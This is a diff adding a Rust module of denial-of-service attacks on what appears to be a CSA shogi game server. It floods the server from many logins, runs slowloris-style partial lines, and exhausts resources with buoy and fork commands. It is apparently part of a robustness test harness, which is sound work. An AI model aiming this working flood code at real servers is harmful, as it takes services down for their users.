@@ -1,0 +1,173 @@
+//! Attacks by many connections that send without regard to the answers, each from one thread.
+
+use super::{
+    attack::{Pace, Target, address, stand_back},
+    client::connect,
+};
+use std::{
+    io::{ErrorKind, Read, Write},
+    net::TcpStream,
+    thread::Scope,
+    time::Duration,
+};
+
+/// A flood: what is sent by how many.
+#[derive(Clone, Copy)]
+pub struct Flood {
+    /// Part of the names of its logins.
+    pub name: &'static str,
+    pub connections: usize,
+    pub addresses: usize,
+    /// Repeated until a packet is full.
+    pub line: &'static str,
+}
+
+/// Bytes of a packet.
+const PACKET: usize = 2048;
+/// Packets of a connection in a second: one for each turn of an opponent.
+const PACKETS: u32 = 10;
+
+/// Logs in with many connections; then all of them send a packet at the same time, again and again, as far as the host
+/// takes it. They read what they are sent.
+pub fn flood<'scope>(scope: &'scope Scope<'scope, '_>, target: &'scope Target<'_>, flood: Flood) {
+    let packet = flood.line.repeat((PACKET / flood.line.len()).max(1));
+    scope.spawn(move || {
+        stand_back();
+        let enter = |n| log_in(target, address(n % flood.addresses), &format!("{}{n}", flood.name));
+        let mut sockets: Vec<_> = (0..flood.connections)
+            .map_while(|n| target.stands().then(|| enter(n)))
+            .flatten()
+            .map(|s| (s, 0))
+            .collect();
+        let mut pace = Pace::new(PACKETS);
+        while target.stands() {
+            pace.wait();
+            sockets.retain_mut(|(socket, from)| {
+                if !drain(socket) {
+                    return false;
+                }
+                let goes_on = write(socket, packet.as_bytes(), from);
+                if *from == 0 && goes_on {
+                    target.hit();
+                }
+                goes_on
+            });
+        }
+    });
+}
+
+/// A login in the extended mode that does not wait for its answer, and never blocks afterwards.
+pub fn log_in(target: &Target<'_>, from: [u8; 4], name: &str) -> Option<TcpStream> {
+    let mut socket = connect(from, target.address).ok()?;
+    socket.write_all(format!("LOGIN {name} x x1\n").as_bytes()).ok()?;
+    socket.set_nonblocking(true).ok()?;
+    Some(socket)
+}
+
+/// Sends the rest of a packet, as far as there is room; false at the end of the connection.
+pub fn write(socket: &mut TcpStream, packet: &[u8], from: &mut usize) -> bool {
+    match socket.write(&packet[*from..]) {
+        Ok(written) => *from = (*from + written) % packet.len(),
+        Err(error) => return error.kind() == ErrorKind::WouldBlock,
+    }
+    true
+}
+
+/// Reads what is there; false at the end of the connection.
+pub fn drain(socket: &mut TcpStream) -> bool {
+    let mut chunk = [0; 65536];
+    // Bounded, so that nobody keeps this thread by sending.
+    for _ in 0..16 {
+        match socket.read(&mut chunk) {
+            Ok(0) => return false,
+            Ok(_) => {}
+            Err(error) => return error.kind() == ErrorKind::WouldBlock,
+        }
+    }
+    true
+}
+
+/// Watches all games, asks for their boards, and reads nothing of it.
+pub fn watch<'scope>(scope: &'scope Scope<'scope, '_>, target: &'scope Target<'_>) {
+    scope.spawn(move || {
+        stand_back();
+        let games = list(target).unwrap_or_default();
+        let ask = |game: &String| format!("%%MONITOR2ON {game}\n%%MONITORON {game}\n%%SHOW {game}\n");
+        let packet = format!("{}%%WHO\n%%CHAT a\n", games.iter().map(ask).collect::<String>());
+        let mut sockets: Vec<_> = (0..100)
+            .filter_map(|n| log_in(target, address(n % 10), &format!("deaf{n}")))
+            .map(|socket| (socket, 0))
+            .collect();
+        let mut pace = Pace::new(PACKETS);
+        while target.stands() {
+            pace.wait();
+            sockets.retain_mut(|(socket, from)| {
+                target.hit();
+                write(socket, packet.as_bytes(), from)
+            });
+        }
+    });
+}
+
+/// The ids of all games.
+fn list(target: &Target<'_>) -> anyhow::Result<Vec<String>> {
+    let patience = Duration::from_secs(5);
+    let mut reader = super::client::Client::enter(address(0), target.address, "reader", patience)?;
+    reader.say("%%LIST")?;
+    let mut games = vec![];
+    loop {
+        let (line, _) = reader.line()?;
+        match line.strip_prefix("##[LIST] ") {
+            Some("+OK") => return Ok(games),
+            Some(game) => games.push(game.to_owned()),
+            None => {}
+        }
+    }
+}
+
+/// Sends lines without an end from half of its connections, and a byte now and then from the others.
+pub fn halves<'scope>(scope: &'scope Scope<'scope, '_>, target: &'scope Target<'_>) {
+    scope.spawn(move || {
+        stand_back();
+        let packet = [b'x'; PACKET];
+        let mut sockets: Vec<_> =
+            (0..200).filter_map(|n| log_in(target, address(n % 10), &format!("half{n}"))).collect();
+        let mut pace = Pace::new(PACKETS * 2);
+        while target.stands() {
+            pace.wait();
+            let mut number = 0;
+            sockets.retain_mut(|socket| {
+                number += 1;
+                target.hit();
+                let bytes = if number % 2 == 0 { &packet[..] } else { b"+" };
+                drain(socket) && write(socket, bytes, &mut 0)
+            });
+        }
+    });
+}
+
+/// Sets, deletes and asks for buoys of many moves, and forks what there is.
+pub fn buoys<'scope>(scope: &'scope Scope<'scope, '_>, target: &'scope Target<'_>) {
+    scope.spawn(move || {
+        stand_back();
+        let games = list(target).unwrap_or_default();
+        let moves: String = super::games::moves().take(500).collect();
+        let mut sockets: Vec<_> =
+            (0..40).filter_map(|n| log_in(target, address(n % 4), &format!("buoy{n}"))).collect();
+        let (mut pace, mut number) = (Pace::new(PACKETS), 0);
+        while target.stands() && !sockets.is_empty() {
+            pace.wait();
+            sockets.retain_mut(|socket| {
+                number += 1;
+                let buoy = format!("buoy_b{number}-600-10");
+                let game = games.get(number % games.len().max(1)).map_or("", String::as_str);
+                let packet = format!(
+                    "%%SETBUOY {buoy} {moves} 1000000\n%%FORK {game} buoy_f{number}-600-10 1\n%%GETBUOYCOUNT {buoy}\n"
+                );
+                target.hit();
+                // Half a packet is a half line: as good an attack as a whole one.
+                drain(socket) && write(socket, packet.as_bytes(), &mut 0)
+            });
+        }
+    });
+}
